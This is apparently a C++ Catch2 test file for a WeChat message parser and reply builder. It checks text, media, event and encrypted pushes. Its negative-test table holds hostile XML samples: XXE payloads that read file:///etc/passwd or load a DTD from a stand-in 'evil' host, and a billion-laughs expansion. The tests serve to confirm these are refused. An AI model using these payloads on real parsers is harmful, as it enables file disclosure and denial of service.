// WeChat push XML → channel-neutral messages (channels.md §1.3, §1.4), hostile bodies, and the
// passive reply XML (§1.6, §1.7.4).
#include "channels/wechat.hpp"

#include <catch2/catch.hpp>

#include <array>
#include <string>
#include <utility>
#include <variant>
#include <vector>

namespace wechat = channels::wechat;

namespace Catch {
template <>
struct StringMaker<wechat::parse_error> {
  static std::string convert(wechat::parse_error e) { return wechat::to_string(e); }
};
}  // namespace Catch

namespace {

// The decrypted plaintext of vector W3 (channels.md §4), newlines included.
constexpr const char* w3_msg =
    "<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>\n"
    "<FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>\n"
    "<CreateTime>1409735668</CreateTime>\n"
    "<MsgType><![CDATA[text]]></MsgType>\n"
    "<Content><![CDATA[abcdteT]]></Content>\n"
    "<MsgId>6054768590064713728</MsgId>\n"
    "</xml>";

constexpr const char* our_id = "gh_10f6c3c3ac5a";
constexpr const char* customer = "oUser-8q7ou2gfYjqLzSIWZf0rs";
constexpr std::int64_t when = 1700000000;

// A push with the common header (§1.3) and the type-specific elements in `rest`.
std::string push_xml(std::string_view msg_type, std::string_view rest) {
  std::string xml = "<xml>\n<ToUserName><![CDATA[";
  xml += our_id;
  xml += "]]></ToUserName>\n<FromUserName><![CDATA[";
  xml += customer;
  xml += "]]></FromUserName>\n<CreateTime>1700000000</CreateTime>\n<MsgType><![CDATA[";
  xml += msg_type;
  xml += "]]></MsgType>\n";
  xml += rest;
  xml += "\n</xml>";
  return xml;
}

using element_list = std::vector<std::pair<std::string, std::string>>;

std::string xml_of(const element_list& elements) {
  std::string xml = "<xml>";
  for (const auto& [name, value] : elements) xml += "<" + name + "><![CDATA[" + value + "]]></" + name + ">";
  return xml + "</xml>";
}

const channels::inbound_message& message_of(const std::variant<channels::inbound_message, wechat::parse_error>& r) {
  if (const auto* e = std::get_if<wechat::parse_error>(&r)) FAIL("parse_message failed: " << wechat::to_string(*e));
  return std::get<channels::inbound_message>(r);
}

template <class T>
std::optional<wechat::parse_error> error_of(const std::variant<T, wechat::parse_error>& result) {
  if (const auto* e = std::get_if<wechat::parse_error>(&result)) return *e;
  return std::nullopt;
}

}  // namespace

TEST_CASE("A text push becomes a channel-neutral text message", "[wechat][xml][message]") {
  SECTION("the W3 plaintext") {
    const auto r = wechat::parse_message(w3_msg);
    const auto& m = message_of(r);
    CHECK(m.channel == "wechat");
    CHECK(m.kind == "text");
    CHECK(m.to == "gh_10f6c3c3ac5a");
    CHECK(m.from == "oyORnuP8q7ou2gfYjqLzSIWZf0rs");
    CHECK(m.created_at == 1409735668);
    CHECK(m.text == "abcdteT");
    CHECK(m.provider_id == "6054768590064713728");
    CHECK(m.attachments.empty());
    CHECK(m.event.empty());
  }
  SECTION("Chinese content keeps its spaces and newlines") {
    const std::string content = " 洗衣机脱水时\n噪音很大 SN12345 ";
    const auto r = wechat::parse_message(
        push_xml("text", "<Content><![CDATA[" + content + "]]></Content><MsgId>6054768590064713729</MsgId>"));
    CHECK(message_of(r).text == content);
  }
  SECTION("content without CDATA has its escapes resolved") {
    const auto r = wechat::parse_message(push_xml("text", "<Content>a &lt;b&gt; &amp; &#x4E2D;</Content><MsgId>1</MsgId>"));
    CHECK(message_of(r).text == "a <b> & 中");
  }
  SECTION("content split into several CDATA sections is joined") {
    const auto r =
        wechat::parse_message(push_xml("text", "<Content><![CDATA[a]]]]><![CDATA[>b]]></Content><MsgId>1</MsgId>"));
    CHECK(message_of(r).text == "a]]>b");
  }
  SECTION("an empty Content is a text message with empty text") {
    const auto r = wechat::parse_message(push_xml("text", "<Content><![CDATA[]]></Content><MsgId>1</MsgId>"));
    CHECK(message_of(r).text.empty());
  }
  SECTION("a survey-menu answer is an ordinary text message") {
    const auto r = wechat::parse_message(
        push_xml("text", "<Content><![CDATA[满意]]></Content><MsgId>42</MsgId><bizmsgmenuid>101</bizmsgmenuid>"));
    CHECK(message_of(r).text == "满意");
    CHECK(message_of(r).provider_id == "42");
  }
}

TEST_CASE("Media pushes carry their media as attachments", "[wechat][xml][message]") {
  SECTION("image: the MediaId is the reference") {
    const auto r = wechat::parse_message(push_xml(
        "image", "<PicUrl><![CDATA[http://mmbiz.qpic.cn/x]]></PicUrl><MediaId><![CDATA[media_1]]></MediaId>"
                 "<MsgId>1001</MsgId>"));
    const auto& m = message_of(r);
    CHECK(m.kind == "image");
    CHECK(m.provider_id == "1001");
    REQUIRE(m.attachments.size() == 1);
    CHECK(m.attachments[0].kind == "image");
    CHECK(m.attachments[0].ref == "media_1");
  }
  SECTION("image without MediaId: the PicUrl is the reference") {
    const auto r =
        wechat::parse_message(push_xml("image", "<PicUrl><![CDATA[http://mmbiz.qpic.cn/x]]></PicUrl><MsgId>1</MsgId>"));
    REQUIRE(message_of(r).attachments.size() == 1);
    CHECK(message_of(r).attachments[0].ref == "http://mmbiz.qpic.cn/x");
  }
  SECTION("voice with Recognition: the recognised text is the text") {
    const auto r = wechat::parse_message(
        push_xml("voice", "<MediaId><![CDATA[voice_1]]></MediaId><Format><![CDATA[amr]]></Format>"
                          "<Recognition><![CDATA[洗衣机坏了]]></Recognition><MsgId>1002</MsgId>"));
    const auto& m = message_of(r);
    CHECK(m.kind == "voice");
    CHECK(m.text == "洗衣机坏了");
    REQUIRE(m.attachments.size() == 1);
    CHECK(m.attachments[0].kind == "voice");
    CHECK(m.attachments[0].ref == "voice_1");
  }
  SECTION("voice without Recognition: no text, still the attachment") {
    const auto r = wechat::parse_message(
        push_xml("voice", "<MediaId><![CDATA[voice_2]]></MediaId><Format><![CDATA[speex]]></Format><MsgId>1003</MsgId>"));
    const auto& m = message_of(r);
    CHECK(m.text.empty());
    REQUIRE(m.attachments.size() == 1);
    CHECK(m.attachments[0].ref == "voice_2");
  }
  SECTION("video and shortvideo are both video") {
    const std::string type = GENERATE(as<std::string>{}, "video", "shortvideo");
    CAPTURE(type);
    const auto r = wechat::parse_message(push_xml(
        type, "<MediaId><![CDATA[video_1]]></MediaId><ThumbMediaId><![CDATA[thumb_1]]></ThumbMediaId><MsgId>1004</MsgId>"));
    const auto& m = message_of(r);
    CHECK(m.kind == "video");
    CHECK(m.provider_id == "1004");
    REQUIRE(m.attachments.size() == 1);
    CHECK(m.attachments[0].kind == "video");
    CHECK(m.attachments[0].ref == "video_1");
  }
}

TEST_CASE("Location and link pushes keep what the bot can use", "[wechat][xml][message]") {
  SECTION("location: latitude, longitude and label") {
    const auto r = wechat::parse_message(
        push_xml("location", "<Location_X>31.230416</Location_X><Location_Y>121.473701</Location_Y><Scale>15</Scale>"
                             "<Label><![CDATA[上海市黄浦区人民大道]]></Label><MsgId>1005</MsgId>"));
    const auto& m = message_of(r);
    CHECK(m.kind == "location");
    REQUIRE(m.latitude);
    REQUIRE(m.longitude);
    CHECK(*m.latitude == Approx(31.230416));
    CHECK(*m.longitude == Approx(121.473701));
    CHECK(m.location_label == "上海市黄浦区人民大道");
  }
  SECTION("location with a coordinate that is not a number is malformed") {
    const auto r = wechat::parse_message(
        push_xml("location", "<Location_X>north</Location_X><Location_Y>121.4</Location_Y><MsgId>1</MsgId>"));
    CHECK(error_of(r) == wechat::parse_error::malformed_xml);
  }
  SECTION("link: the URL is the text") {
    const auto r = wechat::parse_message(
        push_xml("link", "<Title><![CDATA[说明书]]></Title><Description><![CDATA[第3页]]></Description>"
                         "<Url><![CDATA[https://example.com/manual.pdf]]></Url><MsgId>1006</MsgId>"));
    const auto& m = message_of(r);
    CHECK(m.kind == "link");
    CHECK(m.text == "https://example.com/manual.pdf");
  }
}

TEST_CASE("Events get a lower-cased name, their key and a dedupe key without MsgId", "[wechat][xml][event]") {
  const auto [name, rest, event, key, provider_id] =
      GENERATE(table<const char*, std::string, std::string, std::string, std::string>({
          {"subscribe from a QR code",
           "<Event><![CDATA[subscribe]]></Event><EventKey><![CDATA[qrscene_123]]></EventKey>"
           "<Ticket><![CDATA[TICKET]]></Ticket>",
           "subscribe", "123", "oUser-8q7ou2gfYjqLzSIWZf0rs|1700000000|subscribe|qrscene_123"},
          {"plain subscribe", "<Event><![CDATA[subscribe]]></Event>", "subscribe", "",
           "oUser-8q7ou2gfYjqLzSIWZf0rs|1700000000|subscribe"},
          {"unsubscribe with an empty key", "<Event><![CDATA[unsubscribe]]></Event><EventKey><![CDATA[]]></EventKey>",
           "unsubscribe", "", "oUser-8q7ou2gfYjqLzSIWZf0rs|1700000000|unsubscribe"},
          {"menu click", "<Event><![CDATA[CLICK]]></Event><EventKey><![CDATA[REPORT_FAULT]]></EventKey>", "click",
           "REPORT_FAULT", "oUser-8q7ou2gfYjqLzSIWZf0rs|1700000000|CLICK|REPORT_FAULT"},
          {"scan by a follower",
           "<Event><![CDATA[SCAN]]></Event><EventKey><![CDATA[123]]></EventKey><Ticket><![CDATA[TICKET]]></Ticket>",
           "scan", "123", "oUser-8q7ou2gfYjqLzSIWZf0rs|1700000000|SCAN|123"},
          {"menu link", "<Event><![CDATA[VIEW]]></Event><EventKey><![CDATA[https://example.com/t]]></EventKey>",
           "view", "https://example.com/t", "oUser-8q7ou2gfYjqLzSIWZf0rs|1700000000|VIEW|https://example.com/t"},
          {"template delivery report",
           "<Event><![CDATA[TEMPLATESENDJOBFINISH]]></Event><MsgID>200163836</MsgID><Status><![CDATA[success]]></Status>",
           "templatesendjobfinish", "200163836",
           "oUser-8q7ou2gfYjqLzSIWZf0rs|1700000000|TEMPLATESENDJOBFINISH|200163836"},
      }));
  CAPTURE(name);
  const auto r = wechat::parse_message(push_xml("event", rest));
  const auto& m = message_of(r);
  CHECK(m.kind == "event");
  CHECK(m.event == event);
  CHECK(m.event_key == key);
  CHECK(m.provider_id == provider_id);
  CHECK(m.from == customer);
  CHECK(m.to == our_id);
  CHECK(m.created_at == when);
}

TEST_CASE("A location report event carries its coordinates", "[wechat][xml][event]") {
  const auto r = wechat::parse_message(push_xml(
      "event", "<Event><![CDATA[LOCATION]]></Event><Latitude>23.137466</Latitude><Longitude>113.352425</Longitude>"
               "<Precision>119.385040</Precision>"));
  const auto& m = message_of(r);
  CHECK(m.event == "location");
  REQUIRE(m.latitude);
  CHECK(*m.latitude == Approx(23.137466));
  REQUIRE(m.longitude);
  CHECK(*m.longitude == Approx(113.352425));
}

TEST_CASE("Broken, hostile and foreign bodies are refused with a reason", "[wechat][xml][negative]") {
  const auto [name, body, expected] = GENERATE(table<const char*, std::string, wechat::parse_error>({
      {"empty body", "", wechat::parse_error::malformed_xml},
      {"only whitespace", " \n\t", wechat::parse_error::malformed_xml},
      {"JSON", R"({"ToUserName":"gh_1"})", wechat::parse_error::malformed_xml},
      {"truncated", "<xml><ToUserName><![CDATA[gh_1]]></ToUserName><FromUser", wechat::parse_error::malformed_xml},
      {"unclosed root", "<xml><ToUserName>gh_1</ToUserName>", wechat::parse_error::malformed_xml},
      {"mismatched tags", "<xml><a></b></xml>", wechat::parse_error::malformed_xml},
      {"root is not xml", "<root><ToUserName>gh_1</ToUserName></root>", wechat::parse_error::malformed_xml},
      {"two roots", "<xml></xml><xml></xml>", wechat::parse_error::malformed_xml},
      {"XXE external entity",
       "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
       "<xml><ToUserName>gh_1</ToUserName><Content>&xxe;</Content></xml>",
       wechat::parse_error::doctype_refused},
      {"XXE after an XML declaration",
       "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE foo [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]>"
       "<xml/>",
       wechat::parse_error::doctype_refused},
      {"billion laughs",
       "<!DOCTYPE xml [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><xml>&b;</xml>",
       wechat::parse_error::doctype_refused},
      {"lower-case doctype", "<!doctype xml><xml/>", wechat::parse_error::doctype_refused},
      {"plain doctype without subset", "<!DOCTYPE xml SYSTEM \"http://evil/x.dtd\"><xml/>",
       wechat::parse_error::doctype_refused},
      {"entity declaration inside the root", "<xml><!ENTITY x \"y\"></xml>", wechat::parse_error::doctype_refused},
      {"unknown message type",
       push_xml("miniprogrampage", "<Title><![CDATA[t]]></Title><MsgId>1</MsgId>"), wechat::parse_error::unsupported},
  }));
  CAPTURE(name, body);
  CHECK(error_of(wechat::parse_message(body)) == expected);
  CHECK(error_of(wechat::parse_envelope(body)) ==
        (expected == wechat::parse_error::unsupported ? wechat::parse_error::missing_field : expected));
}

TEST_CASE("Deeply nested junk is parsed without trouble and refused", "[wechat][xml][negative]") {
  const std::size_t depth = GENERATE(1000u, 100000u);
  CAPTURE(depth);
  std::string open, close;
  for (std::size_t i = 0; i < depth; ++i) {
    open += "<a>";
    close += "</a>";
  }
  SECTION("well-formed but without the required fields") {
    const std::string body = "<xml>" + open + close + "</xml>";
    CHECK(error_of(wechat::parse_message(body)) == wechat::parse_error::missing_field);
    CHECK(error_of(wechat::parse_envelope(body)) == wechat::parse_error::missing_field);
  }
  SECTION("never closed") {
    CHECK(error_of(wechat::parse_message("<xml>" + open)) == wechat::parse_error::malformed_xml);
  }
  SECTION("nested inside a required field") {
    const std::string body = push_xml("text", "<Content>" + open + "x" + close + "</Content><MsgId>1</MsgId>");
    const auto r = wechat::parse_message(body);
    // Only direct text counts, so nested elements give an empty Content rather than their text.
    CHECK(message_of(r).text.empty());
  }
}

TEST_CASE("Pushes without a required field are refused", "[wechat][xml][negative]") {
  SECTION("text message") {
    const element_list full = {{"ToUserName", our_id},  {"FromUserName", customer}, {"CreateTime", "1700000000"},
                               {"MsgType", "text"},     {"Content", "你好"},        {"MsgId", "1"}};
    const std::string dropped =
        GENERATE(as<std::string>{}, "ToUserName", "FromUserName", "CreateTime", "MsgType", "Content", "MsgId");
    CAPTURE(dropped);
    element_list elements;
    for (const auto& e : full)
      if (e.first != dropped) elements.push_back(e);
    CHECK(error_of(wechat::parse_message(xml_of(elements))) == wechat::parse_error::missing_field);
  }
  SECTION("event") {
    const element_list full = {{"ToUserName", our_id}, {"FromUserName", customer}, {"CreateTime", "1700000000"},
                               {"MsgType", "event"},   {"Event", "CLICK"}};
    const std::string dropped = GENERATE(as<std::string>{}, "ToUserName", "FromUserName", "CreateTime", "MsgType", "Event");
    CAPTURE(dropped);
    element_list elements;
    for (const auto& e : full)
      if (e.first != dropped) elements.push_back(e);
    CHECK(error_of(wechat::parse_message(xml_of(elements))) == wechat::parse_error::missing_field);
  }
  SECTION("empty identities count as missing") {
    const std::string emptied = GENERATE(as<std::string>{}, "ToUserName", "FromUserName", "MsgType", "MsgId");
    CAPTURE(emptied);
    element_list elements = {{"ToUserName", our_id}, {"FromUserName", customer}, {"CreateTime", "1700000000"},
                             {"MsgType", "text"},    {"Content", "hi"},         {"MsgId", "1"}};
    for (auto& e : elements)
      if (e.first == emptied) e.second.clear();
    CHECK(error_of(wechat::parse_message(xml_of(elements))) == wechat::parse_error::missing_field);
  }
  SECTION("media messages without their media") {
    const std::string type = GENERATE(as<std::string>{}, "image", "voice", "video", "shortvideo");
    CAPTURE(type);
    CHECK(error_of(wechat::parse_message(push_xml(type, "<MsgId>1</MsgId>"))) == wechat::parse_error::missing_field);
  }
  SECTION("location without coordinates and link without URL") {
    CHECK(error_of(wechat::parse_message(push_xml("location", "<Label>x</Label><MsgId>1</MsgId>"))) ==
          wechat::parse_error::missing_field);
    CHECK(error_of(wechat::parse_message(push_xml("link", "<Title>x</Title><MsgId>1</MsgId>"))) ==
          wechat::parse_error::missing_field);
  }
}

TEST_CASE("CreateTime must be a whole number of seconds", "[wechat][xml][negative]") {
  SECTION("non-numbers are malformed") {
    const std::string value = GENERATE(as<std::string>{}, "", "abc", "12abc", "1.5", "-5", "1e9", "0x10",
                                       "99999999999999999999", "１７００");
    CAPTURE(value);
    const element_list elements = {{"ToUserName", our_id}, {"FromUserName", customer}, {"CreateTime", value},
                                   {"MsgType", "text"},    {"Content", "hi"},         {"MsgId", "1"}};
    CHECK(error_of(wechat::parse_message(xml_of(elements))) == wechat::parse_error::malformed_xml);
  }
  SECTION("surrounding whitespace is tolerated") {
    const auto r = wechat::parse_message(
        "<xml><ToUserName>gh_1</ToUserName><FromUserName>o1</FromUserName><CreateTime>\n 1700000000 \n</CreateTime>"
        "<MsgType>text</MsgType><Content>hi</Content><MsgId>1</MsgId></xml>");
    CHECK(message_of(r).created_at == when);
  }
}

TEST_CASE("Text that is not UTF-8 is refused", "[wechat][xml][negative]") {
  const auto [name, bad] = GENERATE(table<const char*, std::string>({
      {"stray continuation byte", "abc\x80"},
      {"0xff", "\xff"},
      {"overlong slash", "\xc0\xaf"},
      {"overlong three-byte", "\xe0\x80\xaf"},
      {"UTF-16 surrogate", "\xed\xa0\x80"},
      {"beyond U+10FFFF", "\xf4\x90\x80\x80"},
      {"truncated sequence", "\xe4\xbd"},
      {"truncated at the end of a longer text", "洗衣机\xe6\x9c"},
      {"GBK bytes", "\xcf\xb4\xd2\xc2\xbb\xfa"},
      {"surrogate as a character reference", "&#xD800;"},
  }));
  CAPTURE(name);
  SECTION("in Content") {
    CHECK(error_of(wechat::parse_message(push_xml("text", "<Content>" + bad + "</Content><MsgId>1</MsgId>"))) ==
          wechat::parse_error::not_utf8);
  }
  SECTION("in FromUserName") {
    const std::string body = "<xml><ToUserName>gh_1</ToUserName><FromUserName>o" + bad +
                             "</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType>"
                             "<Content>hi</Content><MsgId>1</MsgId></xml>";
    CHECK(error_of(wechat::parse_message(body)) == wechat::parse_error::not_utf8);
  }
  SECTION("in an event key") {
    CHECK(error_of(wechat::parse_message(
              push_xml("event", "<Event>CLICK</Event><EventKey>" + bad + "</EventKey>"))) ==
          wechat::parse_error::not_utf8);
  }
  SECTION("in the envelope") {
    CHECK(error_of(wechat::parse_envelope("<xml><ToUserName>gh_" + bad + "</ToUserName><Encrypt>QUJD</Encrypt></xml>")) ==
          wechat::parse_error::not_utf8);
  }
}

TEST_CASE("The envelope of an encrypted push gives ToUserName and the exact Encrypt text", "[wechat][xml][envelope]") {
  const std::string encrypt = "hyzAe4OzmOMbd6TvGdIOO6uBmdJoD0Fk53REIHvxYtJlE2B655HuD0m8KUePWB3+LrPXo87wzQ1Q==";
  SECTION("safe mode: only ToUserName and Encrypt") {
    const auto r = wechat::parse_envelope("<xml>\n<ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>\n<Encrypt><![CDATA[" +
                                          encrypt + "]]></Encrypt>\n</xml>");
    REQUIRE(std::holds_alternative<wechat::envelope>(r));
    CHECK(std::get<wechat::envelope>(r).to_user == "gh_10f6c3c3ac5a");
    CHECK(std::get<wechat::envelope>(r).encrypt == encrypt);
  }
  SECTION("compatible mode: the plaintext fields are ignored") {
    const auto r = wechat::parse_envelope(push_xml("text", "<Content>hi</Content><MsgId>1</MsgId><Encrypt><![CDATA[" +
                                                               encrypt + "]]></Encrypt>"));
    REQUIRE(std::holds_alternative<wechat::envelope>(r));
    CHECK(std::get<wechat::envelope>(r).encrypt == encrypt);
  }
  SECTION("no ToUserName still gives the Encrypt text") {
    const auto r = wechat::parse_envelope("<xml><Encrypt>" + encrypt + "</Encrypt></xml>");
    REQUIRE(std::holds_alternative<wechat::envelope>(r));
    CHECK(std::get<wechat::envelope>(r).to_user.empty());
    CHECK(std::get<wechat::envelope>(r).encrypt == encrypt);
  }
  SECTION("no or empty Encrypt is a missing field") {
    const std::string body = GENERATE(as<std::string>{}, "<xml><ToUserName>gh_1</ToUserName></xml>",
                                      "<xml><ToUserName>gh_1</ToUserName><Encrypt><![CDATA[]]></Encrypt></xml>");
    CAPTURE(body);
    CHECK(error_of(wechat::parse_envelope(body)) == wechat::parse_error::missing_field);
  }
}

TEST_CASE("A text reply swaps the addresses and survives a parse", "[wechat][xml][reply]") {
  const auto inbound_r = wechat::parse_message(w3_msg);
  const auto& inbound = message_of(inbound_r);
  const std::string content = GENERATE(as<std::string>{}, "请提供产品序列号（机身铭牌上的 SN）", "", "]]>", "a]]>b]]>c",
                                       "]]]]>>", "]", "]]", "<b>&amp;</b> \"quoted\" 'single'", "line 1\nline 2",
                                       "<![CDATA[nested]]>");
  CAPTURE(content);
  const std::string reply = wechat::text_reply_xml(inbound.from, inbound.to, when, content);
  CAPTURE(reply);

  SECTION("a reply has no MsgId, so it is not mistaken for an inbound message") {
    CHECK(error_of(wechat::parse_message(reply)) == wechat::parse_error::missing_field);
  }
  SECTION("with a MsgId added, every field reads back") {
    std::string with_id = reply;
    const std::size_t end = with_id.rfind("</xml>");
    REQUIRE(end != std::string::npos);
    with_id.insert(end, "<MsgId>1</MsgId>");
    const auto r = wechat::parse_message(with_id);
    const auto& m = message_of(r);
    CHECK(m.to == inbound.from);
    CHECK(m.from == inbound.to);
    CHECK(m.created_at == when);
    CHECK(m.kind == "text");
    CHECK(m.text == content);
  }
}

TEST_CASE("Reply XML has the documented shape", "[wechat][xml][reply]") {
  SECTION("a text reply, with ]]> split across CDATA sections") {
    CHECK(wechat::text_reply_xml("oUser", "gh_1", 1700000000, "a]]>b") ==
          "<xml><ToUserName><![CDATA[oUser]]></ToUserName><FromUserName><![CDATA[gh_1]]></FromUserName>"
          "<CreateTime>1700000000</CreateTime><MsgType><![CDATA[text]]></MsgType>"
          "<Content><![CDATA[a]]]]><![CDATA[>b]]></Content></xml>");
  }
  SECTION("the encrypted wrapper") {
    CHECK(wechat::encrypted_reply_xml("QUJD", "5d197aaffba7e9b25a30732f161a50dee96bd5fa", 1713424427, "415670741") ==
          "<xml><Encrypt><![CDATA[QUJD]]></Encrypt>"
          "<MsgSignature><![CDATA[5d197aaffba7e9b25a30732f161a50dee96bd5fa]]></MsgSignature>"
          "<TimeStamp>1713424427</TimeStamp><Nonce><![CDATA[415670741]]></Nonce></xml>");
  }
}

TEST_CASE("An encrypted reply opens back into the text reply", "[wechat][xml][reply][crypto]") {
  const auto key = wechat::decode_aes_key("abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG");
  REQUIRE(key);
  const std::string appid = "wx2c2769f8efd9abc2";
  const std::string reply = wechat::text_reply_xml(customer, our_id, when, "工单 SR20240501001 已受理]]>");
  const std::string encrypt = wechat::encrypt(*key, reply, appid, "0123456789abcdef");
  const std::string timestamp = "1713424427", nonce = "415670741", token = "spamtest";
  const std::string sig = wechat::signature({token, timestamp, nonce, encrypt});
  const std::string wrapped = wechat::encrypted_reply_xml(encrypt, sig, 1713424427, nonce);

  const auto env = wechat::parse_envelope(wrapped);
  REQUIRE(std::holds_alternative<wechat::envelope>(env));
  CHECK(std::get<wechat::envelope>(env).encrypt == encrypt);
  CHECK(wechat::verify_msg_signature(token, timestamp, nonce, std::get<wechat::envelope>(env).encrypt, sig));
  const auto opened = wechat::decrypt(*key, std::get<wechat::envelope>(env).encrypt, appid);
  REQUIRE(std::holds_alternative<wechat::decrypted>(opened));
  CHECK(std::get<wechat::decrypted>(opened).msg == reply);
}

TEST_CASE("The encrypted W3 push parses end to end", "[wechat][xml][crypto]") {
  // Compatible-mode body as in channels.md §4 W3: envelope → msg_signature → decrypt → message.
  const std::string encrypt =
      "hyzAe4OzmOMbd6TvGdIOO6uBmdJoD0Fk53REIHvxYtJlE2B655HuD0m8KUePWB3+LrPXo87wzQ1QLvbeUgmBM4x6F8PGHQHFVAFmOD"
      "2LdJF9FrXpbUAh0B5GIItb52sn896wVsMSHGuPE328HnRGBcrS7C41IzDWyWNlZkyyXwon8T332jisa+h6tEDYsVticbSnyU8dKO"
      "IbgU6ux5VTjg3yt+WGzjlpKn6NPhRjpA912xMezR4kw6KWwMrCVKSVCZciVGCgavjIQ6X8tCOp3yZbGpy0VxpAe+77TszTfRd5RJ"
      "SVO/HTnifJpXgCSUdUue1v6h0EIBYYI1BD1DlD+C0CR8e6OewpusjZ4uBl9FyJvnhvQl+q5rv1ixrcpCumEPo5MJSgM9ehVsNPfU"
      "M669WuMyVWQLCzpu9GhglF2PE=";
  const std::string body = "<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>\n<Encrypt><![CDATA[" + encrypt +
                           "]]></Encrypt>\n</xml>";
  const auto env = wechat::parse_envelope(body);
  REQUIRE(std::holds_alternative<wechat::envelope>(env));
  const auto& e = std::get<wechat::envelope>(env);
  REQUIRE(wechat::verify_msg_signature("spamtest", "1409735669", "1320562132", e.encrypt,
                                       "5d197aaffba7e9b25a30732f161a50dee96bd5fa"));
  const auto key = wechat::decode_aes_key("abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG");
  REQUIRE(key);
  const auto opened = wechat::decrypt(*key, e.encrypt, "wx2c2769f8efd9abc2");
  REQUIRE(std::holds_alternative<wechat::decrypted>(opened));
  const auto r = wechat::parse_message(std::get<wechat::decrypted>(opened).msg);
  const auto& m = message_of(r);
  CHECK(m.to == e.to_user);
  CHECK(m.text == "abcdteT");
  CHECK(m.provider_id == "6054768590064713728");
}

TEST_CASE("Every parse error has a distinct name", "[wechat][xml]") {
  using wechat::parse_error;
  const std::array all = {parse_error::malformed_xml, parse_error::doctype_refused, parse_error::missing_field,
                          parse_error::not_utf8, parse_error::unsupported};
  for (std::size_t i = 0; i < all.size(); ++i)
    for (std::size_t j = i + 1; j < all.size(); ++j)
      CHECK(std::string(wechat::to_string(all[i])) != wechat::to_string(all[j]));
}
